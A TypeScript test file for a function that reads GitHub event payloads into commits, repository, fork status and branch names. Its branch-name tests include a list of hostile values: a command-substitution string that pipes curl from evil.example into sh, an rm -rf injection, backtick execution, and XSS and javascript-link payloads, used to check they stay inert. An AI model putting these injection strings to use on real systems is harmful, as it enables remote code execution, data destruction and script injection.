/** Which commits an event is about, as far as its payload says it. */
import { type Arbitrary, array, assert, constantFrom, jsonValue, oneof, property, record, string } from "fast-check";
import { describe, expect, test } from "vitest";
import { ConfigurationError } from "../src/errors.ts";
import { type PullRequest, readPullRequest } from "../src/pull-request.ts";
import { git } from "./support/git.ts";
import { publishedPayload } from "./support/github-events/index.ts";
import { arrayOf, type JsonObject, objectOf } from "./support/json.ts";
import { scratch } from "./support/scratch.ts";

const BASE = "a".repeat(40);
const HEAD = "b".repeat(40);
const read = (name: string, payload: unknown, sha?: string): unknown =>
  readPullRequest(name, payload === undefined ? undefined : JSON.stringify(payload), "acme/readqc", sha);

const pull = {
  base: { sha: BASE, repo: { full_name: "acme/other" } },
  head: { sha: HEAD, repo: { full_name: "eve/readqc" } },
};

test.each(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"])(
  "%s names base, head and where both come from",
  (event) => {
    expect(read(event, { number: 7, pull_request: pull })).toEqual({
      event,
      base: BASE,
      head: HEAD,
      repository: "acme/other",
      from: "eve/readqc",
      isFork: true,
      number: 7,
    });
  },
);

test("a fork that is gone, and a number of the pull request itself", () => {
  const payload = { pull_request: { number: 8, base: { sha: BASE }, head: { sha: HEAD, repo: null } } };
  expect(read("pull_request", payload)).toEqual({
    event: "pull_request",
    base: BASE,
    head: HEAD,
    repository: "acme/readqc",
    isFork: true,
    number: 8,
  });
});

test("a merge queue has commits and no number; SHA-256 has longer ones", () => {
  const payload = { merge_group: { base_sha: "c".repeat(64), head_sha: "d".repeat(64) } };
  expect(read("merge_group", payload)).toMatchObject({ base: "c".repeat(64), head: "d".repeat(64) });
});

test.each(["push", "schedule", "workflow_dispatch", "", "pull_requests"])("%s is about no change", (event) => {
  expect(read(event, { pull_request: pull })).toBeUndefined();
});

test.each<[string, unknown]>([
  ["no payload", undefined],
  ["a list", []],
  ["no commits", { pull_request: { base: {}, head: {} } }],
  ["a branch in place of a commit", { pull_request: { base: { sha: "main" }, head: { sha: HEAD } } }],
  ["half of a merge group", { pull_request: { base: { sha: BASE }, head: { sha: `${HEAD}0` } } }],
])("%s: nobody knows what to trust", (_, payload) => {
  expect(() => read("pull_request", payload)).toThrow("does not name the commits of a change");
});

test("a payload that is no JSON", () => {
  expect(() => readPullRequest("pull_request", "{", "acme/readqc")).toThrow("policy-from: head");
});

test("a comment on a pull request names no commit: the base is the default branch", () => {
  const payload = { issue: { number: 7, pull_request: { url: "x" } } };
  const said = { event: "issue_comment", base: BASE, repository: "acme/readqc", number: 7 };
  expect(read("issue_comment", payload, BASE)).toEqual(said);
  expect(() => read("issue_comment", payload)).toThrow("does not name the commits");
  expect(read("issue_comment", { issue: { number: 7 } }, BASE)).toBeUndefined();
});

test("events whose payload says nothing", () => {
  expect(read("issue_comment", {}, BASE)).toBeUndefined();
  expect(() => read("merge_group", {})).toThrow("does not name the commits");
  expect(() => read("merge_group", { merge_group: { base_sha: BASE } })).toThrow("does not name the commits");
});

test("a run that follows on one for a pull request", () => {
  const run = { event: "pull_request", head_sha: HEAD, head_repository: { full_name: "eve/fork" } };
  const said = {
    event: "workflow_run",
    base: BASE,
    head: HEAD,
    repository: "acme/readqc",
    from: "eve/fork",
    isFork: true,
  };
  expect(read("workflow_run", { workflow_run: run }, BASE)).toEqual(said);
  expect(() => read("workflow_run", { workflow_run: { event: "pull_request" } }, BASE)).toThrow("does not name");
  expect(read("workflow_run", { workflow_run: { ...run, event: "push" } }, BASE)).toBeUndefined();
  expect(read("workflow_run", {}, BASE)).toBeUndefined();
});

describe("payloads as GitHub publishes them", () => {
  const changes = { baseRef: "master", headRef: "changes", repository: "Codertocat/Hello-World" };
  const own = { from: "Codertocat/Hello-World", isFork: false, number: 2 };
  const commits = {
    base: "f95f852bd8fca8fcc58a9a2d6c842781e32a215e",
    head: "ec26c3e57ca3a959ca5aad62de7213c562f8c821",
  };

  test.each(["pull_request", "pull_request_review", "pull_request_review_comment"])("%s", (event) => {
    expect(read(event, publishedPayload(event))).toEqual({ event, ...commits, ...changes, ...own });
  });

  test("pull_request_target is that of pull_request", () => {
    const event = "pull_request_target";
    expect(read(event, publishedPayload("pull_request"))).toEqual({ event, ...commits, ...changes, ...own });
  });

  test("merge_group: the branch of the queue, which the repository has itself, and no number", () => {
    expect(read("merge_group", publishedPayload("merge_group"))).toEqual({
      event: "merge_group",
      base: "380387fbc80638b734a49e1be1c4dfec1c01b33c",
      baseRef: "main",
      head: "2ffea6db159f6b6c47a24e778fb9ef40cf6b1c7d",
      headRef: "gh-readonly-queue/main/pr-104-929f8209d40f77f4abc622a499c93a83babdbe64",
      repository: objectOf(publishedPayload("merge_group")["repository"])["full_name"],
      isFork: false,
    });
  });

  test.each(["push", "workflow_dispatch", "issue_comment", "workflow_run"])("%s, which is of no change", (event) => {
    expect(read(event, publishedPayload(event), BASE)).toBeUndefined();
  });

  test("workflow_run for a pull request, whose number is that of the only one at the commit", () => {
    const payload = publishedPayload("workflow_run");
    const run = objectOf(payload["workflow_run"]);
    const [listed] = arrayOf(run["pull_requests"]);
    const followed = (more: object): unknown =>
      read("workflow_run", { ...payload, workflow_run: { ...run, event: "pull_request", ...more } }, BASE);
    const said = {
      event: "workflow_run",
      base: BASE,
      head: run["head_sha"],
      headRef: "master",
      repository: "acme/readqc",
      from: "octo-org/octo-repo",
      isFork: true,
    };
    // The published example lists one of another commit.
    expect(followed({})).toEqual(said);
    expect(followed({ pull_requests: [] })).toEqual(said);
    const { head } = commits;
    const at = { ...said, head, baseRef: "master", number: 2 };
    expect(followed({ head_sha: head })).toEqual(at);
    expect(followed({ head_sha: head, pull_requests: [listed, listed] })).toEqual({ ...said, head });
  });
});

const withHead = (head: object): JsonObject =>
  objectOf(read("pull_request", { pull_request: { ...pull, head: { ...pull.head, ...head } } }));

describe("whether it is a fork's", () => {
  test.each<[string, unknown, boolean]>([
    ["another owner's", { full_name: "eve/other", fork: true }, true],
    ["the repository itself, which is a fork of something else", { full_name: "acme/other", fork: true }, false],
    ["the repository itself, in other letters", { full_name: "ACME/Other" }, false],
    ["one that is gone", null, true],
    ["one of no name that GitHub gives", { full_name: "acme/other/../x" }, true],
    ["one of a wrong type", "acme/other", true],
  ])("%s", (_, repo, isFork) => {
    expect(withHead({ repo })["isFork"]).toBe(isFork);
  });

  test("a comment does not say", () => {
    const payload = { issue: { number: 7, pull_request: {} } };
    expect(read("issue_comment", payload, BASE)).not.toHaveProperty("isFork");
  });
});

test.each([0, -1, 1.5, "7", null, 2 ** 60])("%j is no number of a pull request", (number) => {
  expect(read("pull_request", { number, pull_request: pull })).not.toHaveProperty("number");
});

describe("names of branches", () => {
  const hostile = [
    "$(curl${IFS}evil.example|sh)",
    "`id`",
    "a;rm${IFS}-rf${IFS}/tmp",
    '"><script>alert(1)</script>',
    "x]](javascript&#58;alert(1))|@acme!#1",
    "##error]x",
    "\u202Etxt.exe",
    "%0A%0D",
    "ünïcödé/🧬",
  ];

  test("as git takes them: their authors choose them, and nothing is made of them", async () => {
    const root = await scratch();
    for (const name of hostile) {
      const utf8 = git(root, "check-ref-format", "--branch", name);
      expect(Buffer.from(utf8, "latin1").toString("utf8").trim()).toBe(name);
      expect(withHead({ ref: name })["headRef"]).toBe(name);
    }
  });

  test("as git refuses them: no line, no end of a text, nothing without end", async () => {
    const root = await scratch();
    for (const name of ["a\nb", "a b", "a\tb", "a\u001B[31mb", "a\u007Fb", ""]) {
      expect(() => git(root, "check-ref-format", "--branch", name)).toThrow("Command failed");
      expect(withHead({ ref: name })["headRef"]).toBeUndefined();
    }
    for (const other of ["a\0b", "x".repeat(1_000_000), 7, null, {}, ["main"]])
      expect(withHead({ ref: other })["headRef"]).toBeUndefined();
  });
});

const EVENT_NAMES = ["pull_request", "pull_request_target", "merge_group", "issue_comment", "workflow_run"] as const;

/** Another error than one that the user can mend is thrown on. */
function changeOrRefusal(event: string, payload: string): PullRequest | undefined {
  try {
    return readPullRequest(event, payload, "acme/readqc", BASE);
  } catch (error) {
    if (error instanceof ConfigurationError && error.message.includes("policy-from: head")) return undefined;
    throw error;
  }
}

describe("whatever a payload says", () => {
  /** Anything at the places that are looked at, and true commits now and then, so that some of it is taken. */
  const anything = oneof(
    { weight: 3, arbitrary: constantFrom<unknown>(BASE, HEAD, "pull_request", "acme/readqc", 7) },
    { weight: 1, arbitrary: jsonValue() },
    { weight: 1, arbitrary: string({ unit: "binary" }) },
  );
  const some = <T>(of: Arbitrary<T>): Arbitrary<unknown> =>
    oneof({ weight: 6, arbitrary: of }, { weight: 1, arbitrary: anything });
  const end = some(record({ sha: anything, ref: anything, repo: some(record({ full_name: anything })) }));
  const request = some(record({ number: anything, base: end, head: end }));
  const payloads = record(
    {
      number: anything,
      repository: some(record({ full_name: anything })),
      pull_request: request,
      merge_group: some(record({ base_sha: anything, base_ref: anything, head_sha: anything, head_ref: anything })),
      issue: some(record({ number: anything, pull_request: anything })),
      workflow_run: some(
        record({
          event: anything,
          head_sha: anything,
          head_branch: anything,
          head_repository: some(record({ full_name: anything })),
          pull_requests: some(array(request, { maxLength: 3 })),
        }),
      ),
    },
    { requiredKeys: [] },
  );

  test("it is a change by names that cannot be anything else, or none, or an error that says what to do", () => {
    let taken = 0;
    assert(
      property(constantFrom(...EVENT_NAMES), some(payloads), (event, payload) => {
        const change = changeOrRefusal(event, JSON.stringify(payload));
        if (change === undefined) return;
        taken += 1;
        const { base, head = base, repository, from = repository, number = 1 } = change;
        for (const commit of [base, head]) expect(commit).toMatch(/^[0-9a-f]{40}(?:[0-9a-f]{24})?$/u);
        for (const name of [repository, from]) expect(name).toMatch(/^[\w.-]+\/[\w.-]+$/u);
        for (const ref of [change.baseRef, change.headRef]) expect(ref ?? "x").toMatch(/^[^ \p{Cc}]{1,255}$/u);
        expect(Number.isSafeInteger(number) && number > 0).toBe(true);
      }),
      { numRuns: 2_000 },
    );
    expect(taken).toBeGreaterThan(50);
  });
});
